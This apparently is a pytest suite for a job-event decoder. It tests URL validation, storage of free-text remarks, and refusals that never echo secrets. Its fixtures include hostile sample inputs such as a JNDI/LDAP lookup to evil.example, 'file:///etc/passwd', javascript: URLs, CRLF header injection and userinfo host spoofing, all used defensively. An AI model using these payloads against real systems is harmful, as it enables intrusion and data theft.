"""URLs and remarks: what could harm a reader is refused, and everything else is kept as plain text."""

import re

import pytest

from schemas.decode import Reason, RefusedEventError, decode
from schemas.job_event import MAX_URL_CHARACTERS
from tests.support.decoding import TIMESTAMP, accepted, refused, with_attributes, with_data

URLS = ["configlogURL", "publishlogURL", "algologURL"]
BIDIRECTIONAL = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
SPACES = " \t\n\r\v\f\u0085\u00a0\u1680\u2000\u2009\u2028\u2029\u202f\u205f\u3000\ufeff"
CONTROLS = "\0\x01\x08\x1b\x7f\u0080\u009f"
LONGEST = "http://example.net/".ljust(MAX_URL_CHARACTERS, "a")


@pytest.mark.parametrize(
    "wrong",
    [
        " ",
        "example.net/log",
        "//example.net/log",
        "/log",
        "http:",
        "http:/example.net",
        "http://",
        "http:///log",
        "http://?log",
        "http://#log",
        "http://:80/",
        "http://:80",
        "https://:443/log",
        "http://:",
        "http://:/",
        "http://:@",
        "http://[",
        "http://[/",
        "http://]",
        "http://[]",
        "http://[]/log",
        "http://[]:80/",
        "http://[::1",
        "http://[::1]80/",
        "http://x[::1]/",
        "http://[gg::1]/",
        "http://::1/",
        "http://example.net:80:80/",
        "http://example.net:x/",
        "http://example.net:8x/",
        "http://example.net:-1/",
        "http://example.net:+80/",
        "http://example.net:８０/",
        "http://example.net:65536/",
        "http://example.net:70000/",
        "http://example.net:100000/log",
        "http://example.net:99999999999999999999/",
        "http://%/",
        "http://exam%ple.net/",
        "http://<script>/",
        "http://a|b/",
        "http://a^b/",
        "http:example.net",
        "http:\\\\example.net",
        "ftp://example.net/log",
        "file:///etc/passwd",
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)//http://example.net",
        "data:text/html,<script>",
        "httpss://example.net",
        "xhttp://example.net",
        " http://example.net",
        "http://user:word@example.net/log",
        "http://user@example.net/log",
        "http://:@example.net/log",
        "https://@example.net",
        "http://example.net:80@evil.example/log",
        "http://example.net\\@evil.example/log",
        "http://example.net\\log",
        "http://example.net/log\r\nSet-Cookie: a=b",
        "http://example.net/log\n",
        LONGEST + "a",
    ],
)
@pytest.mark.parametrize("member", URLS)
def test_a_url_that_could_harm_is_refused(member: str, wrong: str) -> None:
    """A URL is http or https to a host, without a name and password, and as long as browsers take."""
    assert refused(with_data(**{member: wrong})) is Reason.INVALID_FIELD
    assert refused(with_data(outputsURL=["http://example.net/", wrong])) is Reason.INVALID_FIELD


@pytest.mark.parametrize("character", BIDIRECTIONAL + SPACES + CONTROLS, ids=ascii)
def test_a_url_has_no_character_that_hides_or_forges(character: str) -> None:
    """Neither host nor path holds spaces, control characters, or signs that turn the direction of writing."""
    for url in (
        f"http://exa{character}mple.net/",
        f"http://example.net/a{character}b",
        f"http://example.net{character}",
    ):
        assert refused(with_data(algologURL=url)) is Reason.INVALID_FIELD


@pytest.mark.parametrize(
    "url",
    [
        "http://example.net",
        "https://example.net/",
        "HTTP://example.net/log",
        "HttpS://EXAMPLE.net/Log",
        "http://127.0.0.1:8080/log",
        "https://[::1]:8443/log",
        "http://[2001:DB8::192.0.2.1]",
        "http://example.net:/log",
        "http://example.net:0/",
        "http://example.net:65535",
        "http://example.net:00080?log",
        "http://b%C3%BCcher.example/",
        "http://a.b-c_d~e!$&'()*+,;=f/",
        "http://example.net?log=1#end",
        "http://example.net/log@1.txt",
        "http://example.net/?next=a@b",
        "http://example.net/#@",
        "http://example.net/a\\b",
        "http://bücher.example/größe",
        "http://example.net/😀",
        "https://example.net/log?X-Amz-Signature=0123&X-Amz-Expires=60",
        "http://example.net/<script>alert('x')</script>",
        "http://example.net/${jndi:ldap://evil.example/a}",
        'http://example.net/"onclick="',
        "http://example.net/%0d%0aSet-Cookie:a=b",
        LONGEST,
    ],
)
def test_any_other_url_is_kept_as_it_is(url: str) -> None:
    """A URL is neither changed nor normalised: it may be signed."""
    details = accepted(with_data(configlogURL=url, publishlogURL=url, algologURL=url, outputsURL=[url, url])).details
    assert details == {"configlogURL": url, "publishlogURL": url, "algologURL": url, "outputsURL": [url, url]}


@pytest.mark.parametrize(
    "text",
    [
        " ",
        "<script>alert(1)</script>",
        "\"quoted\" and 'quoted'",
        "${jndi:ldap://evil.example/a}",
        "\x1b[2J\x1b[31mred",
        "first\r\nsecond\n\ndata: forged",
        "a\tb",
        "\0",
        "\u202eecnatsni",
        "😀",
        "{{7*7}} %s %(name)s",
    ],
)
def test_a_remark_is_any_text(text: str) -> None:
    """A message or an error is kept as it is; those who show it make it harmless."""
    details = accepted(with_data(message=text, error=text)).details
    assert (details["message"], details["error"]) == (text, text)


@pytest.mark.parametrize(
    "value",
    [
        pytest.param(with_data(algologURL="ftp://SECRET"), id="url"),
        pytest.param(with_data(outputsURL=["http://u:SECRET@a/"]), id="output"),
        pytest.param(with_data(jobId="SECRET\n"), id="identifier"),
        pytest.param(with_data(owner="SECRET"), id="owner"),
        pytest.param(with_data(attempt="SECRET"), id="attempt"),
        pytest.param(with_data(outcome="SECRET"), id="outcome"),
        pytest.param(with_attributes(type="SECRET"), id="type"),
        pytest.param(with_attributes(specversion="SECRET"), id="specversion"),
        pytest.param(with_attributes(time="SECRET"), id="time"),
        pytest.param(with_attributes(time="2021-02-30T01:00:00Z"), id="day"),
        pytest.param(with_attributes(data={"SECRET": "SECRET"}), id="data"),
        pytest.param(b'{"SECRET": SECRET}', id="not JSON"),
        pytest.param(b'"SECRET"', id="no event"),
    ],
)
def test_a_refusal_never_quotes_the_record(value: bytes) -> None:
    """What is said of a refused record holds nothing of it: it may be a signed URL or a password."""
    with pytest.raises(RefusedEventError) as caught:
        decode(value, (), TIMESTAMP)
    assert not re.search("SECRET|2021-02-30", str(caught.value))
